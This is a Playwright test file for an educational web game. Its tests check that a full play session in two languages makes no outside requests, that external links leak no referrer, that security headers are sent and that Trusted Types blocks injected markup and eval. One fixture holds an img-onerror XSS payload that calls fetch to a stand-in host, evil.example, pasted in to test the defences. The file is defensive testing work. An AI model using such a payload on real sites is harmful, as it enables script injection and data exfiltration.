// Nothing leaves the game's own place: over a whole play, in two languages, no request goes elsewhere, nothing is refused
// by the page's policy, and what leads outside waits for a press and tells nothing of where it was pressed.
import { expect, test, type Browser, type Page } from '@playwright/test';
import { lettersOfReceipt } from '../support/hostile-text';
import { guard, openOutside } from '../support/outside';
import { at, favouring, playUntil } from '../support/play';
import { classReceipts } from '../support/report-class';

// Also what a service worker asks for counts.
test.use({ serviceWorkers: 'allow' });

const port = Number(process.env['KINDLIGHT_TEST_PORT'] ?? 4273);
const origin = `http://localhost:${String(port)}`;
const level = 'block-the-bullies';

/** A context in which everything is noted. */
async function inGuardedContext(
  browser: Browser,
  use: (page: Page, look: (name: string) => Promise<void>) => Promise<void>,
): Promise<readonly string[]> {
  const outside = await openOutside();
  const context = await browser.newContext({
    proxy: outside.proxy,
    baseURL: `${origin}/`,
    serviceWorkers: 'allow',
    viewport: { width: 1024, height: 700 },
  });
  const guarded = await guard(context, origin);
  const page = await context.newPage();
  await use(page, (name) => guarded.look(page, name));
  await guarded.settle();
  // A service worker that is still fetching can hold its context for minutes; the browser ends with the tests anyway.
  await Promise.race([context.close(), new Promise((resolve) => setTimeout(resolve, 5000))]);
  outside.close();
  return [...guarded.problems, ...outside.came];
}

/** Pages that are opened by their address; each is named by its screen. */
const pages = [
  ['/guide', 'guide'],
  ['/settings', 'settings'],
  ['/help', 'help'],
  ['/about', 'about'],
  ['/privacy', 'privacy'],
  [`/lesson/${level}`, 'lesson'],
  ['/practice', 'practice'],
  ['/festival', 'festival'],
  ['/teach', 'teach'],
  [`/teach/plan/${level}`, 'plan'],
  [`/teach/project/${level}`, 'project'],
  ['/teach/papers', 'papers'],
  ['/teach/paper/evidence', 'paper'],
  ['/teach/paper/certificate', 'paper'],
  ['/class', 'class'],
] as const;

/** A result that was pasted by somebody who means harm, beside good ones. */
const pasted = [
  '<img src="https://evil.example/x" onerror="fetch(\'https://evil.example\')">',
  ...classReceipts(3).map((receipt) => `https://evil.example/#r=${lettersOfReceipt(receipt)}`),
].join('\n');

async function gather(page: Page): Promise<void> {
  await page.evaluate(() => (location.hash = '#/teach/report'));
  await at(page, 'report');
  await page.locator('textarea').evaluate((element, text) => {
    const data = new DataTransfer();
    data.setData('text/plain', text);
    element.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  }, pasted);
  await expect(page.locator('.gather-classes')).toBeVisible({ timeout: 30_000 });
  // Reading has gone on in a worker: its address was taken by Trusted Types.
  expect(page.workers().length).toBe(1);
}

for (const language of ['en', 'ar'] as const) {
  test(
    `a whole play and all pages in ${language} ask nobody but their own host`,
    { tag: '@drawn' },
    async ({ browser }) => {
      test.setTimeout(300_000);
      const problems = await inGuardedContext(browser, async (page, look) => {
        await page.goto(`./?lang=${language}&pace=calm&seed=7&still`);
        await at(page, 'first-run');
        await look('first-run');
        await page.locator('[data-advance]').click();
        await playUntil(page, 'hub', favouring('skip'));
        await look('hub');
        await page.evaluate((id) => (location.hash = `#/level/${id}`), level);
        await page.locator('[data-choice="play"]').click();
        await expect(page.locator('#stage canvas')).toBeVisible({ timeout: 60_000 });
        await look('level');
        await playUntil(page, 'debrief', favouring('perm-everyone'));
        await look('debrief');
        for (const [hash, name] of pages) {
          await page.evaluate((next) => (location.hash = `#${next}`), hash);
          await expect(page.locator('h1').first()).toBeVisible({ timeout: 30_000 });
          await page.waitForTimeout(300);
          await look(name);
        }
        await gather(page);
        await look('report');
        expect(await page.evaluate(() => (window as unknown as { refusals: string[] }).refusals)).toEqual([]);
      });
      expect(problems).toEqual([]);
    },
  );
}

test('a class link in the question of an address goes behind its sign, and nobody hears of it', async ({ browser }) => {
  const problems = await inGuardedContext(browser, async (page, look) => {
    await page.goto('./?lang=en&a=00000000&s=7&h=%E2%80%AEroom%2012');
    await expect(page).toHaveURL(/\?lang=en#a=00000000/);
    await expect(page.locator('h1').first()).toBeVisible({ timeout: 30_000 });
    await look('join');
  });
  expect(problems).toEqual([]);
});

test('a link that leads outside is opened by a press alone, and tells nothing of where it was pressed', async ({
  page,
  context,
}) => {
  const heard: { readonly url: string; readonly referrer: string | undefined }[] = [];
  await context.route(
    (url) => url.origin !== origin,
    async (route) => {
      heard.push({ url: route.request().url(), referrer: (await route.request().allHeaders())['referer'] });
      await route.fulfill({ contentType: 'text/html', body: '<title>outside</title>' });
    },
  );
  await page.goto('./?lang=en&still#/teach/paper/evidence');
  const link = page.locator('a[target="_blank"]').first();
  await expect(link).toBeVisible({ timeout: 30_000 });
  await link.hover();
  await page.waitForTimeout(300);
  expect(heard).toEqual([]);
  const [outside] = await Promise.all([context.waitForEvent('page'), link.click()]);
  await outside.waitForLoadState();
  expect(heard[0]?.referrer).toBeUndefined();
  expect(await outside.evaluate(() => [document.referrer, String(window.opener)])).toEqual(['', 'null']);
});

test('the server sends the policy that the page has, and what a page cannot say', async ({ page }) => {
  const answer = await page.goto('./');
  const headers = answer?.headers() ?? {};
  const own = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(headers['content-security-policy']).toBe(`${own ?? ''}; frame-ancestors 'self' https:`);
  expect(headers['permissions-policy']).toContain('camera=(self)');
  expect(headers['permissions-policy']).toContain('microphone=()');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['cross-origin-resource-policy']).toBe('same-origin');
});

test('markup, evaluated text and strange scripts are refused by the page itself', async ({ page }) => {
  await page.goto('./?lang=en');
  const refused = await page.evaluate(async () => {
    // Whoever looks into the page from outside may evaluate; the page itself comes after.
    await new Promise((resolve) => setTimeout(resolve));
    const tried = (act: () => unknown): string => {
      try {
        act();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const outcome = {
      markup: tried(() => Reflect.set(document.body, 'innerHTML', '<b>x</b>')),
      evaluated: tried(() => Reflect.apply(Reflect.get(window, 'eval') as () => unknown, window, ['1'])),
      policy: tried(() =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('mine', {}),
      ),
      worker: tried(() => new Worker('./strange.js')),
    };
    const inline = document.createElement('style');
    inline.textContent = 'body { outline: 7px solid red }';
    document.head.append(inline);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return { ...outcome, style: getComputedStyle(document.body).outlineWidth === '7px' ? 'done' : 'refused' };
  });
  expect(refused).toEqual({
    ...{ markup: 'TypeError', evaluated: 'EvalError', policy: 'TypeError', worker: 'TypeError', style: 'refused' },
  });
});
